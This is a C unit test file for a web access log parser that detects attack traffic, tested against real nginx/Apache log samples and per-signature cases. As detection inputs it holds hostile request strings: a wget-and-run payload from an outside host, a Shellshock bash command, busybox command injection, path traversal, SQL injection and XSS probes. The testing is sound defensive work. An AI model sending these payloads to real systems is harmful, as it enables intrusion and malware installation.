/*
 * tests/unit/parsers/test_weblog.c - the weblog format (nginx/Apache access logs): the real
 * samples in tests/fixtures/weblog with their ground truth, every signature class, the port,
 * time and client forms, every rejection reason, CRLF, truncation, garbage and detection.
 */
#include "test.h"

#include <zlib.h>
#include "parsers/parsers.h"

#include <stdio.h>
#include <stdlib.h>

#define NOW INT64_C(1780000000) /* 2026-05-28T20:26:40Z */
#define KEEP 8                  /* reports copied whole per run */
#define STR_CAP 2048
#define IPS_MAX 2048

#define CAT(c) (1u << (BW_CAT_##c))

struct copy {
    struct bw_report r;
    char evidence[STR_CAP], target[STR_CAP], family[STR_CAP], controller[STR_CAP],
        host[STR_CAP], source[64];
};

/* What a run of lines produced. */
struct run {
    size_t lines, reports, rejected[BW_REJECT_COUNT], n_rejected;
    bw_catmask cats_any; /* union over all reports */
    size_t per_cat[BW_CAT_COUNT];
    struct bw_addr ips[IPS_MAX];
    size_t n_ips;
    uint32_t max_seq;
    int emit_rc;
    size_t n_kept;
    struct copy kept[KEEP];
    struct bw_parse_error last_err;
    size_t wp_login, n_wp_ips; /* reports of "WordPress login probe", their addresses */
    struct bw_addr wp_ips[64];
};

static void keep_str(char *dst, size_t cap, const char *src, const char **out)
{
    if (src == NULL) {
        *out = NULL;
        return;
    }
    assert_true(strlen(src) < cap);
    memcpy(dst, src, strlen(src) + 1);
    *out = dst;
}

static int on_report(void *ctx, const struct bw_report *r)
{
    struct run *run = ctx;
    bool known = false;

    run->reports++;
    run->cats_any |= r->cats;
    for (int c = 0; c < BW_CAT_COUNT; c++)
        run->per_cat[c] += (r->cats >> c) & 1;
    assert_non_null(r->source);
    assert_string_equal(r->source, "weblog");
    assert_non_null(r->evidence);
    assert_true(strlen(r->evidence) <= 1024);
    assert_true(bw_utf8_valid(r->evidence, strlen(r->evidence)));
    if (r->target != NULL && strcmp(r->target, "WordPress login probe") == 0) {
        known = false;
        run->wp_login++;
        for (size_t i = 0; i < run->n_wp_ips; i++)
            known |= bw_addr_cmp(&run->wp_ips[i], &r->addr) == 0;
        if (!known && run->n_wp_ips < 64)
            run->wp_ips[run->n_wp_ips++] = r->addr;
        known = false;
    }
    if (r->seq > run->max_seq)
        run->max_seq = r->seq;
    if (r->host == NULL) {
        for (size_t i = 0; i < run->n_ips; i++)
            known |= bw_addr_cmp(&run->ips[i], &r->addr) == 0;
        if (!known && run->n_ips < IPS_MAX)
            run->ips[run->n_ips++] = r->addr;
    }
    if (run->n_kept < KEEP) {
        struct copy *k = &run->kept[run->n_kept++];

        k->r = *r;
        keep_str(k->evidence, STR_CAP, r->evidence, &k->r.evidence);
        keep_str(k->target, STR_CAP, r->target, &k->r.target);
        keep_str(k->family, STR_CAP, r->family, &k->r.family);
        keep_str(k->controller, STR_CAP, r->controller, &k->r.controller);
        keep_str(k->host, STR_CAP, r->host, &k->r.host);
        keep_str(k->source, sizeof(k->source), r->source, &k->r.source);
    }
    return run->emit_rc;
}

static struct run *run_new(void)
{
    struct run *run = calloc(1, sizeof(*run));

    assert_non_null(run);
    return run;
}

/* Feeds one line (as the reader does: no newline) and records the outcome. */
static int feed(struct bw_parser *p, struct run *run, const char *line, size_t len)
{
    int rc;

    run->lines++;
    rc = bw_parser_line(p, line, len, run->lines, on_report, run, &run->last_err);
    if (rc == BW_EMALFORMED) {
        assert_true((unsigned)run->last_err.reason < BW_REJECT_COUNT);
        assert_true(run->last_err.detail[0] != '\0');
        assert_null(strchr(run->last_err.detail, '\n'));
        run->rejected[run->last_err.reason]++;
        run->n_rejected++;
    }
    return rc;
}

/* Runs a fixture file through a fresh parser, line by line, skipping empty lines. */
static struct run *run_file(const char *rel)
{
    const char *dir = getenv("BW_FIXTURES");
    char path[1024];
    struct bw_parser *p = bw_parser_new("weblog", NOW);
    struct run *run = run_new();
    gzFile f;
    char *buf = malloc(1 << 17);

    assert_non_null(dir);
    assert_non_null(p);
    assert_non_null(buf);
    snprintf(path, sizeof(path), "%s/weblog/%s", dir, rel);
    f = gzopen(path, "rb"); /* plain or gzip alike: the large sample is kept compressed */
    if (f == NULL)
        fail_msg("cannot open %s", path);
    while (gzgets(f, buf, 1 << 17) != NULL) {
        size_t len = strlen(buf);

        while (len > 0 && (buf[len - 1] == '\n' || buf[len - 1] == '\r'))
            len--;
        if (len == 0)
            continue;
        feed(p, run, buf, len);
    }
    gzclose(f);
    free(buf);
    bw_parser_free(p);
    return run;
}

/* One line through a fresh parser. */
static struct run *run_line(const char *line)
{
    struct bw_parser *p = bw_parser_new("weblog", NOW);
    struct run *run = run_new();

    assert_non_null(p);
    feed(p, run, line, strlen(line));
    bw_parser_free(p);
    return run;
}

static void assert_addr(const struct bw_addr *got, const char *want)
{
    struct bw_addr w;
    char buf[BW_ADDR_TEXT_MAX];

    assert_int_equal(bw_addr_parse(&w, want, strlen(want)), BW_OK);
    if (bw_addr_cmp(got, &w) != 0)
        fail_msg("address %s, want %s", bw_addr_format(got, buf), want);
}

/* The line gives exactly one report with these categories; returns the run (caller frees). */
static struct run *one(const char *line, bw_catmask cats)
{
    struct run *run = run_line(line);

    if (run->reports != 1 || run->n_rejected != 0)
        fail_msg("%s: %zu reports, %zu rejected (%s), want one report", line, run->reports,
                 run->n_rejected, run->last_err.detail);
    if (run->kept[0].r.cats != cats)
        fail_msg("%s: categories %#x, want %#x", line, run->kept[0].r.cats, cats);
    return run;
}

static void none(const char *line)
{
    struct run *run = run_line(line);

    if (run->reports != 0 || run->n_rejected != 0)
        fail_msg("%s: %zu reports, %zu rejected (%s), want nothing", line, run->reports,
                 run->n_rejected, run->last_err.detail);
    free(run);
}

static void rejects(const char *line, size_t len, enum bw_reject want)
{
    struct bw_parser *p = bw_parser_new("weblog", NOW);
    struct run *run = run_new();
    int rc = feed(p, run, line, len);

    if (rc != BW_EMALFORMED || run->last_err.reason != want)
        fail_msg("%.*s: rc %d reason %s (%s), want %s", (int)(len > 200 ? 200 : len), line, rc,
                 bw_reject_name(run->last_err.reason), run->last_err.detail,
                 bw_reject_name(want));
    assert_int_equal(run->reports, 0);
    bw_parser_free(p);
    free(run);
}

#define OK_PREFIX "81.2.69.142 - - [17/May/2015:10:05:03 +0000] "

/* ---- the real samples ---- */

static void elastic_apache_logs_ground_truth(void **state)
{
    struct run *run = run_file("elastic_examples/apache_logs.gz");
    struct bw_addr crawler;
    (void)state;

    /* 10000 lines, every one a combined-format line: nothing rejected */
    assert_int_equal(run->lines, 10000);
    assert_int_equal(run->n_rejected, 0);
    /* mostly benign background: 53 probes of CMS and admin paths, all answered 404 */
    assert_int_equal(run->reports, 53);
    assert_int_equal(run->cats_any, CAT(WEB_ATTACK));
    /* SOURCES.md: 12 requests for /wp-login.php from 12 distinct addresses */
    assert_int_equal(run->wp_login, 12);
    assert_int_equal(run->n_wp_ips, 12);
    /* the busiest client, a crawler, is not among them */
    assert_int_equal(bw_addr_parse(&crawler, "66.249.73.135", 13), BW_OK);
    for (size_t i = 0; i < run->n_ips; i++)
        assert_int_not_equal(bw_addr_cmp(&run->ips[i], &crawler), 0);
    free(run);
}

static void crowdsec_samples_ground_truth(void **state)
{
    static const struct {
        const char *file;
        size_t lines, reports, rejected, ips;
        bw_catmask cats;
    } cases[] = {
        { "CVE-2022-44877.log", 2, 1, 0, 1, CAT(EXPLOIT) },
        { "apache-http-probing.log", 77, 77, 0, 1, CAT(WEB_ATTACK) },
        { "apache2-logs.log", 9, 3, 2, 3, CAT(SCAN) | CAT(WEB_ATTACK) },
        { "apache_log4j2_cve-2021-44228.log", 3, 3, 0, 3, CAT(EXPLOIT) },
        { "http-admin-interface-probing.log", 3, 3, 0, 1, CAT(WEB_ATTACK) },
        { "http-cve-probing.log", 3, 3, 0, 1, CAT(EXPLOIT) },
        { "netgear_rce.log", 1, 1, 0, 1, CAT(EXPLOIT) },
        { "nginx-bad-user-agent.log", 3, 3, 0, 1, CAT(SCAN) },
        { "nginx-http-malformed.log", 12, 12, 0, 1, CAT(SCAN) },
        { "nginx-http-path-traversal.log", 9, 9, 0, 1, CAT(WEB_ATTACK) },
        { "nginx-http-sensitive-files.log", 9, 9, 0, 1, CAT(WEB_ATTACK) },
        { "nginx-http-sqli-probing.log", 16, 16, 0, 1, CAT(WEB_ATTACK) },
        { "nginx-http-xss-probing.log", 26, 26, 0, 1, CAT(WEB_ATTACK) },
        { "nginx_http-logs.log", 9, 2, 1, 1, CAT(WEB_ATTACK) },
        { "thinkphp-cve-2018-20062.log", 8, 8, 0, 8, CAT(EXPLOIT) },
    };
    (void)state;

    for (size_t i = 0; i < BW_ARRAY_LEN(cases); i++) {
        char rel[256];
        struct run *run;

        snprintf(rel, sizeof(rel), "crowdsec/%s", cases[i].file);
        run = run_file(rel);
        if (run->lines != cases[i].lines || run->reports != cases[i].reports ||
            run->n_rejected != cases[i].rejected || run->n_ips != cases[i].ips ||
            run->cats_any != cases[i].cats)
            fail_msg("%s: %zu lines, %zu reports, %zu rejected, %zu addresses, categories %#x;"
                     " want %zu, %zu, %zu, %zu, %#x", cases[i].file, run->lines, run->reports,
                     run->n_rejected, run->n_ips, run->cats_any, cases[i].lines,
                     cases[i].reports, cases[i].rejected, cases[i].ips, cases[i].cats);
        /* the rejected lines are Apache and nginx error-log lines */
        assert_int_equal(run->rejected[BW_REJECT_MALFORMED], cases[i].rejected);
        free(run);
    }
}

static void netgear_mozi_infection_attempt(void **state)
{
    struct run *run = run_file("crowdsec/netgear_rce.log");
    const struct bw_report *r = &run->kept[0].r;
    (void)state;

    assert_int_equal(run->reports, 1);
    assert_addr(&r->addr, "120.86.253.142");
    assert_int_equal(r->cats, CAT(EXPLOIT));
    assert_int_equal(r->time_s, 1682485885); /* 2023-04-26T05:11:25Z */
    assert_int_equal(r->port, 80);
    assert_int_equal(r->proto, BW_PROTO_TCP);
    assert_string_equal(r->target, "Netgear DGN setup.cgi RCE");
    assert_string_equal(r->family, "Mozi");
    assert_string_equal(r->controller, "192.168.1.1");
    assert_non_null(strstr(r->evidence, "todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://"));
    assert_int_equal(r->line, 1);
    free(run);
}

static void log4shell_in_agent_and_referer(void **state)
{
    struct run *run = run_file("crowdsec/apache_log4j2_cve-2021-44228.log");
    (void)state;

    assert_int_equal(run->reports, 3);
    for (size_t i = 0; i < 3; i++)
        assert_string_equal(run->kept[i].r.target, "Log4j JNDI injection (CVE-2021-44228)");
    /* the LDAP server of the plain lookup is where the payload comes from */
    assert_string_equal(run->kept[0].r.controller, "45.155.205.233");
    /* an obfuscated host name is not a host name */
    assert_null(run->kept[1].r.controller);
    free(run);
}

static void repeats_in_one_second_get_seq(void **state)
{
    struct run *run = run_file("crowdsec/apache-http-probing.log");
    (void)state;

    /* 77 probes from one address in one second: seq 0..76 keeps them distinct */
    assert_int_equal(run->reports, 77);
    assert_int_equal(run->max_seq, 76);
    assert_int_equal(run->kept[0].r.seq, 0);
    assert_int_equal(run->kept[1].r.seq, 1);
    assert_string_equal(run->kept[0].r.target, "remote file inclusion");
    free(run);
}

static void virtual_host_port_and_forms(void **state)
{
    struct run *run = run_file("crowdsec/apache2-logs.log");
    (void)state;

    /* masscan's user agent, then the Solr probe with and without a virtual host */
    assert_int_equal(run->kept[0].r.cats, CAT(SCAN));
    assert_addr(&run->kept[0].r.addr, "164.68.112.178");
    assert_string_equal(run->kept[0].r.target, "scanner user agent (masscan)");
    assert_addr(&run->kept[2].r.addr, "1.2.3.4");
    assert_int_equal(run->kept[2].r.port, 80);
    free(run);

    run = one("website.com:443 81.2.69.142 - - [25/Oct/2021:11:05:52 +0200] \"GET /.env "
              "HTTP/1.1\" 404 6963 \"abc.com\" \"ua\"", CAT(WEB_ATTACK));
    assert_int_equal(run->kept[0].r.port, 443);
    assert_int_equal(run->kept[0].r.time_s, 1635152752);
    assert_addr(&run->kept[0].r.addr, "81.2.69.142");
    free(run);
    run = one("81.2.69.1 81.2.69.142 - - [25/Oct/2021:11:05:52 +0200] \"GET /.env HTTP/1.1\" "
              "404 1 \"-\" \"-\"", CAT(WEB_ATTACK));
    assert_addr(&run->kept[0].r.addr, "81.2.69.142");
    assert_int_equal(run->kept[0].r.port, 80);
    free(run);
}

/* ---- signatures, one line each ---- */

static void signature_classes(void **state)
{
    static const struct {
        const char *request; /* between the quotes */
        int status;
        const char *agent;
        bw_catmask cats;
        const char *target;
    } cases[] = {
        { "POST /GponForm/diag_Form?images/ HTTP/1.1", 404, "Hello, World", CAT(EXPLOIT),
          "GPON router RCE (CVE-2018-10561)" },
        { "POST /boaform/admin/formPing HTTP/1.1", 404, "-", CAT(EXPLOIT),
          "Boa/Realtek router formPing RCE" },
        { "POST /picsdesc.xml HTTP/1.1", 404, "-", CAT(EXPLOIT),
          "Realtek SDK miniigd UPnP RCE (CVE-2014-8361)" },
        { "PUT /SDK/webLanguage HTTP/1.1", 404, "-", CAT(EXPLOIT),
          "Hikvision camera RCE (CVE-2021-36260)" },
        { "GET /shell?cd+/tmp;rm+-rf+*;wget+http://81.2.69.1/jaws;sh+/tmp/jaws HTTP/1.1", 404,
          "-", CAT(EXPLOIT), "MVPower DVR shell RCE" },
        { "GET /cgi-bin/x.cgi?ip=%3Bcd%20%2Ftmp%3B%20busybox%20wget HTTP/1.1", 404, "-",
          CAT(EXPLOIT), "shell command injection" },
        { "GET / HTTP/1.1", 200, "() { :; }; /bin/bash -c 'id'", CAT(EXPLOIT),
          "Bash Shellshock (CVE-2014-6271)" },
        { "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", 404, "-",
          CAT(EXPLOIT), "PHPUnit eval-stdin RCE (CVE-2017-9841)" },
        { "POST /index.php?%ADd+allow_url_include%3d1 HTTP/1.1", 200, "-", CAT(EXPLOIT),
          "PHP-CGI argument injection (CVE-2012-1823, CVE-2024-4577)" },
        { "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", 400, "-",
          CAT(EXPLOIT) | CAT(WEB_ATTACK), "Apache path traversal (CVE-2021-41773)" },
        { "GET /a/..%252f..%252f..%252fetc/hosts HTTP/1.1", 404, "-", CAT(WEB_ATTACK),
          "path traversal" },
        { "GET /item?id=1%20UNION%20SELECT%20password HTTP/1.1", 200, "-", CAT(WEB_ATTACK),
          "SQL injection" },
        { "GET /search?q=%3Csvg/onload=x%3E HTTP/1.1", 200, "-", CAT(WEB_ATTACK),
          "cross-site scripting" },
        { "GET /.git/config HTTP/1.1", 200, "-", CAT(WEB_ATTACK), "sensitive file probe" },
        { "GET /wp-login.php HTTP/1.1", 404, "-", CAT(WEB_ATTACK), "WordPress login probe" },
        { "GET / HTTP/1.1", 200, "Mozilla/5.0 zgrab/0.x", CAT(SCAN),
          "scanner user agent (zgrab)" },
        { "CONNECT 81.2.69.1:443 HTTP/1.1", 400, "-", CAT(SCAN), "proxy probe (CONNECT)" },
        { "\\x16\\x03\\x01\\x00\\xA5\\x01", 400, "-", CAT(SCAN),
          "malformed or non-HTTP request" },
        { "GET /wp-login.php HTTP/1.1", 200, "Mozilla/5.0 (Nikto/2.1.5)",
          CAT(SCAN), "scanner user agent (Nikto)" },
    };
    (void)state;

    for (size_t i = 0; i < BW_ARRAY_LEN(cases); i++) {
        char line[1024];
        struct run *run;

        snprintf(line, sizeof(line), OK_PREFIX "\"%s\" %d 12 \"-\" \"%s\"", cases[i].request,
                 cases[i].status, cases[i].agent);
        run = one(line, cases[i].cats);
        if (strcmp(run->kept[0].r.target, cases[i].target) != 0)
            fail_msg("%s: target \"%s\", want \"%s\"", line, run->kept[0].r.target,
                     cases[i].target);
        assert_string_equal(run->kept[0].r.evidence, line);
        free(run);
    }
}

static void ordinary_requests_give_nothing(void **state)
{
    (void)state;
    none(OK_PREFIX "\"GET /index.html HTTP/1.1\" 200 12 \"-\" \"Mozilla/5.0\"");
    none(OK_PREFIX "\"GET /blog/tags/shell?page=1 HTTP/1.1\" 200 12 \"-\" \"Mozilla/5.0\"");
    none(OK_PREFIX "\"GET /search?q=a+or+b HTTP/1.1\" 200 12 \"-\" \"Googlebot/2.1\"");
    none(OK_PREFIX "\"GET /.well-known/acme-challenge/x HTTP/1.1\" 404 12 \"-\" \"-\"");
    none(OK_PREFIX "\"POST /login HTTP/1.0\" 500 803 \"-\" \"-\"");
    /* probes count only where the path is missing or forbidden, not for its owner */
    none(OK_PREFIX "\"GET /wp-login.php HTTP/1.1\" 200 12 \"-\" \"Mozilla/5.0\"");
    none(OK_PREFIX "\"GET /wp-admin/ HTTP/1.1\" 401 12 \"-\" \"Mozilla/5.0\"");
    none(OK_PREFIX "\"GET /.cache HTTP/1.1\" 200 12 \"-\" \"-\"");
    none(OK_PREFIX "\"GET /go?u=http://example.com/a?b HTTP/1.1\" 302 0 \"-\" \"-\"");
    /* connections that sent no request */
    none(OK_PREFIX "\"-\" 400 0 \"-\" \"-\"");
    none(OK_PREFIX "\"\" 400 0 \"-\" \"-\"");
    /* common log format: no referer or agent */
    none(OK_PREFIX "\"GET / HTTP/1.0\" 200 1513");
}

static void client_forms(void **state)
{
    struct run *run;
    (void)state;

    run = one("2a02:cf40::1 - - [01/Jan/2026:00:00:00 -0130] \"GET /.env HTTP/1.1\" 404 1",
              CAT(WEB_ATTACK));
    assert_addr(&run->kept[0].r.addr, "2a02:cf40::1");
    assert_int_equal(run->kept[0].r.time_s, 1767225600 + 5400);
    free(run);
    /* HostnameLookups On: the client is a name, which parse passes through as host */
    run = one("scanner.example.net - - [01/Jan/2026:00:00:00 +0000] \"GET /.env HTTP/1.1\" "
              "404 1", CAT(WEB_ATTACK));
    assert_non_null(run->kept[0].r.host);
    assert_string_equal(run->kept[0].r.host, "scanner.example.net");
    free(run);
    /* nginx logging to syslog: the access line after the syslog header */
    run = one("<190>Jun  8 14:34:33 web nginx: 81.2.69.142 - - [08/Jun/2026:14:34:33 +0000] "
              "\"GET /.env HTTP/1.1\" 404 1 \"-\" \"-\"", CAT(WEB_ATTACK));
    assert_addr(&run->kept[0].r.addr, "81.2.69.142");
    assert_int_equal(run->kept[0].r.time_s, 1780929273);
    free(run);
    /* a missing ident field and an authenticated user */
    run = one("81.2.69.142 - [01/Jan/2026:00:00:00 +0000] \"GET /.env HTTP/1.1\" 404 1",
              CAT(WEB_ATTACK));
    free(run);
    run = one("81.2.69.142 - bob [01/Jan/2026:00:00:00 +0000] \"GET /.env HTTP/1.1\" 404 1 "
              "\"-\" \"-\" \"extra\"", CAT(WEB_ATTACK));
    free(run);
}

static void escaped_quotes_in_request(void **state)
{
    struct run *run;
    (void)state;

    /* Apache writes \" and \\ inside the request; the closing quote is the real one */
    run = one(OK_PREFIX "\"GET /x?a=\\\"<script>\\\\ HTTP/1.1\" 404 1 \"-\" \"-\"",
              CAT(WEB_ATTACK));
    assert_string_equal(run->kept[0].r.target, "cross-site scripting");
    free(run);
}

/* ---- bad input ---- */

static void rejection_reasons(void **state)
{
    static const struct {
        const char *line;
        enum bw_reject want;
    } cases[] = {
        { "2021/12/01 13:53:33 [error] 31#31: *46 open() failed, client: 1.2.3.4", BW_REJECT_MALFORMED },
        { "[Thu Oct 13 12:24:49.880562 2022] [auth_basic:error] [client 31.33.58.75:50229] x",
          BW_REJECT_MALFORMED },
        { "81.2.69.142 - - [17/May/2015:10:05:03 +0000] \"GET / HTTP/1.1", BW_REJECT_MALFORMED },
        { "81.2.69.142 - - [17/May/2015:10:05:03 +0000] \"GET / HTTP/1.1\" OK 1",
          BW_REJECT_MALFORMED },
        { "81.2.69.142 - - [17/May/2015:10:05:03 +0000", BW_REJECT_MALFORMED },
        { "81.2.69.142 - - [17/May/2015:10:05:03 +0000] GET / 200 1", BW_REJECT_MALFORMED },
        { "a b c d e f [17/May/2015:10:05:03 +0000] \"GET / HTTP/1.1\" 200 1",
          BW_REJECT_MALFORMED },
        { "just some words", BW_REJECT_MALFORMED },
        { "81.2.69.142 - - [32/May/2015:10:05:03 +0000] \"GET / HTTP/1.1\" 200 1",
          BW_REJECT_INVALID_TIME },
        { "81.2.69.142 - - [17/Mai/2015:10:05:03 +0000] \"GET / HTTP/1.1\" 200 1",
          BW_REJECT_INVALID_TIME },
        { "81.2.69.142 - - [17/May/2015:25:05:03 +0000] \"GET / HTTP/1.1\" 200 1",
          BW_REJECT_INVALID_TIME },
        { "81.2.69.142 - - [17/May/2015:10:05:03 0000] \"GET / HTTP/1.1\" 200 1",
          BW_REJECT_INVALID_TIME },
        { "81.2.69.256 - - [17/May/2015:10:05:03 +0000] \"GET / HTTP/1.1\" 200 1",
          BW_REJECT_INVALID_IP },
        { "<script> - - [17/May/2015:10:05:03 +0000] \"GET / HTTP/1.1\" 200 1",
          BW_REJECT_INVALID_IP },
    };
    /* invalid UTF-8 is found when the line would be evidence (the reader checks every line) */
    static const char bad_utf8[] = OK_PREFIX "\"GET /.env\xff\xfe HTTP/1.1\" 404 1";
    char *big;
    (void)state;

    for (size_t i = 0; i < BW_ARRAY_LEN(cases); i++)
        rejects(cases[i].line, strlen(cases[i].line), cases[i].want);
    rejects(bad_utf8, sizeof(bad_utf8) - 1, BW_REJECT_INVALID_UTF8);
    big = malloc(70000);
    assert_non_null(big);
    memset(big, 'a', 70000);
    rejects(big, 70000, BW_REJECT_LINE_TOO_LONG);
    free(big);
}

static void crlf_and_truncation(void **state)
{
    const char *line = OK_PREFIX "\"GET /.env HTTP/1.1\" 404 1 \"-\" \"curl/8\"\r";
    struct run *run;
    size_t cut;
    (void)state;

    /* a CRLF ending is the same line */
    run = one(line, CAT(WEB_ATTACK));
    assert_null(strchr(run->kept[0].r.evidence, '\r'));
    free(run);
    /* cut inside the user agent: still the line it was; cut inside the request: rejected */
    cut = strlen(line) - 4;
    {
        struct bw_parser *p = bw_parser_new("weblog", NOW);
        struct run *r2 = run_new();

        assert_int_equal(feed(p, r2, line, cut), 1);
        assert_int_equal(feed(p, r2, line, strlen(OK_PREFIX) + 8), BW_EMALFORMED);
        assert_int_equal(r2->last_err.reason, BW_REJECT_MALFORMED);
        bw_parser_free(p);
        free(r2);
    }
}

static void evidence_capped_on_utf8_boundary(void **state)
{
    char line[4096];
    size_t n = (size_t)snprintf(line, sizeof(line), OK_PREFIX "\"GET /.env HTTP/1.1\" 404 1 "
                                                              "\"-\" \"");
    struct run *run;
    (void)state;

    /* pad so that a two-byte character straddles byte 1024 */
    while (n < 1023)
        line[n++] = 'a';
    memcpy(line + n, "\xc3\xa9 and more\"", 13);
    line[n + 13] = '\0';
    run = one(line, CAT(WEB_ATTACK));
    assert_int_equal(strlen(run->kept[0].r.evidence), 1023);
    free(run);
}

static void garbage_never_crashes(void **state)
{
    struct bw_parser *p = bw_parser_new("weblog", NOW);
    struct run *run = run_new();
    unsigned seed = 12345;
    char line[600];
    (void)state;

    for (int i = 0; i < 5000; i++) {
        size_t len = (size_t)(i % 599) + 1;
        int rc;

        for (size_t k = 0; k < len; k++) {
            seed = seed * 1103515245u + 12345u;
            line[k] = (char)(seed >> 16);
        }
        if (i % 3 == 0) /* half the time, a plausible start */
            memcpy(line, OK_PREFIX, len < strlen(OK_PREFIX) ? len : strlen(OK_PREFIX));
        rc = feed(p, run, line, len);
        assert_true(rc == BW_EMALFORMED || rc == 0 || rc == 1);
    }
    assert_true(run->n_rejected > 0);
    bw_parser_free(p);
    free(run);
}

static void emit_return_value_is_passed_back(void **state)
{
    struct bw_parser *p = bw_parser_new("weblog", NOW);
    struct run *run = run_new();
    const char *line = OK_PREFIX "\"GET /.env HTTP/1.1\" 404 1";
    (void)state;

    run->emit_rc = 42;
    assert_int_equal(feed(p, run, line, strlen(line)), 42);
    assert_int_equal(run->reports, 1);
    bw_parser_free(p);
    free(run);
}

static void detection(void **state)
{
    const char *access = "83.149.9.216 - - [17/May/2015:10:05:03 +0000] \"GET /presentations/"
                         "logstash-monitorama-2013/images/kibana-search.png HTTP/1.1\" 200 "
                         "203023 \"http://semicomplete.com/\" \"Mozilla/5.0\"\n";
    const char *vhost = "www.crowdsec.net 1.2.3.4 - - [08/Jun/2020:08:04:43 +0000] \"GET / "
                        "HTTP/1.1\" 500 803 \"-\" \"-\"\r\n";
    const char *sshd = "Jun  8 14:34:33 host sshd[42]: Failed password for root from "
                       "81.2.69.142 port 4242 ssh2\n";
    (void)state;

    assert_string_equal(bw_parser_detect(access, strlen(access)), "weblog");
    assert_string_equal(bw_parser_detect(vhost, strlen(vhost)), "weblog");
    assert_true(bw_parser_detect(sshd, strlen(sshd)) == NULL ||
                strcmp(bw_parser_detect(sshd, strlen(sshd)), "weblog") != 0);
    assert_true(bw_parser_detect("{\"ip\":1}", 8) == NULL ||
                strcmp(bw_parser_detect("{\"ip\":1}", 8), "weblog") != 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(elastic_apache_logs_ground_truth),
        cmocka_unit_test(crowdsec_samples_ground_truth),
        cmocka_unit_test(netgear_mozi_infection_attempt),
        cmocka_unit_test(log4shell_in_agent_and_referer),
        cmocka_unit_test(repeats_in_one_second_get_seq),
        cmocka_unit_test(virtual_host_port_and_forms),
        cmocka_unit_test(signature_classes),
        cmocka_unit_test(ordinary_requests_give_nothing),
        cmocka_unit_test(client_forms),
        cmocka_unit_test(escaped_quotes_in_request),
        cmocka_unit_test(rejection_reasons),
        cmocka_unit_test(crlf_and_truncation),
        cmocka_unit_test(evidence_capped_on_utf8_boundary),
        cmocka_unit_test(garbage_never_crashes),
        cmocka_unit_test(emit_return_value_is_passed_back),
        cmocka_unit_test(detection),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
